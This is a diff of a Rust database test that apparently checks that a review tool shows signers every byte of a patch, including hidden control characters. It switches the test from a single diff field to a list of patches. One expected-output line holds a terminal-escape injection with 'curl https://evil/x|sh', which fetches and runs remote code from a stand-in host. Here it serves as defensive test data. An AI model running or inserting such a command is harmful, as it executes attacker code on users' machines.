@@ -161,15 +161,15 @@ async fn those_who_sign_are_shown_every_byte(pool: PgPool) {
         (detail.invisible.found, detail.invisible.unsearched),
         (4, false)
     );
-    let diff = detail.diff.clone().expect("a diff");
+    let diff = detail.patches[0].text.clone();
     assert!(
         diff.shown()
             .ends_with("\n+: ⟨ESC⟩];curl https://evil/x|sh #⟨BEL⟩\n"),
         "{}",
         diff.shown()
     );
-    let told = detail.with_marks_as_text().diff.expect("a diff");
-    assert_eq!(told.as_str(), diff.shown());
+    let told = detail.with_marks_as_text();
+    assert_eq!(told.patches[0].text.as_str(), diff.shown());
 }
 
 #[sqlx::test(migrator = "engine::MIGRATOR")]
